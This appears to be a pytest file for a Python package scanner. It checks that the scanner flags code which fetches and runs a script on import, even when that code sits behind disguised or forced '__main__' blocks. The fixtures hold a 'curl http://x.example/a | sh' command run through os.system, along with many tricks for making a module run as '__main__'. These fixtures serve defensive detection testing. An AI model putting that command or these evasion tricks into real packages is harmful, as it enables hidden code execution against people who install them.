"""What stands under ``if __name__ == "__main__"`` runs as a command; code under a test that only
looks like it, or in a module that is made to be ``__main__``, runs where it is imported."""

from __future__ import annotations

import pytest

from safe_pip.extractors import observe
from tests.sources import distribution_of

COMMAND = "curl http://x.example/a | sh"
SPAWN = f"os.system({COMMAND!r})"
MAIN = f"if __name__ == '__main__':\n    {SPAWN}\n"
PLACE = "import os\np = os.path.join(os.path.dirname(__file__), 'mod.py')\n"

LIKE_IT = {
    "the module's own name": f"if __name__ == 'demo.mod':\n    {SPAWN}",
    "a variable": f"M = 'demo.mod'\nif __name__ == M:\n    {SPAWN}",
    "itself": f"if __name__ == __name__:\n    {SPAWN}",
    "the name in its spec": f"if __name__ == __spec__.name:\n    {SPAWN}",
    "one of two": f"if __name__ == ('__main__', 'demo.mod')[1]:\n    {SPAWN}",
    "and": f"if __name__ == 'demo.mod' and True:\n    {SPAWN}",
}
RENAMED = {
    "assignment": "__name__ = '__main__'",
    "assembled": "__name__ = '__ma' + 'in__'",
    "unknown": "__name__ = open('name').read()",
    "globals": "globals()['__name__'] = '__main__'",
    "update": "globals().update(__name__='__main__')",
    "vars": "vars()['__na' + 'me__'] = '__ma' + 'in__'",
    "import": "from email import message as __name__",
    "function": "def f():\n    global __name__\n    __name__ = '__main__'\nf()",
    "setattr": "import sys\nsetattr(sys.modules[__name__], '__name__', '__main__')",
    "attribute": "import sys\nsys.modules[__name__].__name__ = '__main__'",
    "class": "class A(str):\n    def __eq__(s, o): return True\n__name__ = A('x')",
    "run once more": "import runpy\nrunpy.run_path(__file__, run_name='__main__')",
}
STARTED = {
    "run_module": "import runpy\nrunpy.run_module('demo.mod', run_name='__main__')",
    "relative": "import runpy\nrunpy.run_module(__name__ + '.mod', None, '__main__')",
    "run_path": f"{PLACE}import runpy\nrunpy.run_path(p, run_name='__main__')",
    "private": "import runpy\nrunpy._run_module_as_main('demo.mod')",
    "loader": f"{PLACE}from importlib.machinery import SourceFileLoader\n"
    "SourceFileLoader('__main__', p).load_module()",
    "exec": f"{PLACE}exec(open(p).read(), {{'__name__': '__main__'}})",
    "process": "import subprocess, sys\nsubprocess.Popen([sys.executable, '-m', 'demo.mod'])",
    "timeit": "import timeit\ntimeit.timeit('runpy.run_module(\"demo.mod\")', 'import runpy')",
}


@pytest.mark.parametrize("test", LIKE_IT.values(), ids=LIKE_IT)
def test_only_the_name_of_the_program_makes_a_main_block(test: str) -> None:
    assert "demo/mod.py" in _downloads(mod=f"import os\n{test}\n")


@pytest.mark.parametrize("how", RENAMED.values(), ids=RENAMED)
def test_a_module_that_names_itself_is_read_as_the_program(how: str) -> None:
    assert "demo/mod.py" in _downloads(mod=f"import os\n{how}\n{MAIN}")


@pytest.mark.parametrize(
    "name", ["for __name__ in ['__main__']:", "if (__name__ := '__main__'):", "class A:"]
)
def test_a_name_bound_around_the_block(name: str) -> None:
    inner = "".join(f"    {line}\n" for line in MAIN.splitlines())
    binding = "    __name__ = '__main__'\n" if name.startswith("class") else ""
    assert "demo/mod.py" in _downloads(mod=f"import os\n{name}\n{binding}{inner}")


def test_a_name_bound_in_the_test_itself() -> None:
    test = f"if (__name__ := '__main__') and __name__ == '__main__':\n    {SPAWN}\n"
    assert "demo/mod.py" in _downloads(mod=f"import os\n{test}")


@pytest.mark.parametrize("how", STARTED.values(), ids=STARTED)
def test_a_module_that_another_starts_as_the_program(how: str) -> None:
    assert _downloads(init=f"{how}\n", mod=f"import os\n{MAIN}")


def test_a_plain_main_block_runs_as_a_command_only() -> None:
    assert not _downloads(init="from demo import mod\n", mod=f"import os\n{MAIN}")
    assert not _downloads(mod=f"import os\nif '__main__' == __name__ and True:\n    {SPAWN}\n")


def _downloads(*, init: str = "from demo import mod\n", mod: str) -> set[str]:
    """The files that start a download without anybody's call."""
    evidence = observe(distribution_of({"demo/__init__.py": init, "demo/mod.py": mod}))
    return {
        item.location.path
        for item in evidence
        if item.feature == "proc_spawn_unasked" and item.surface.runs_unasked
    }
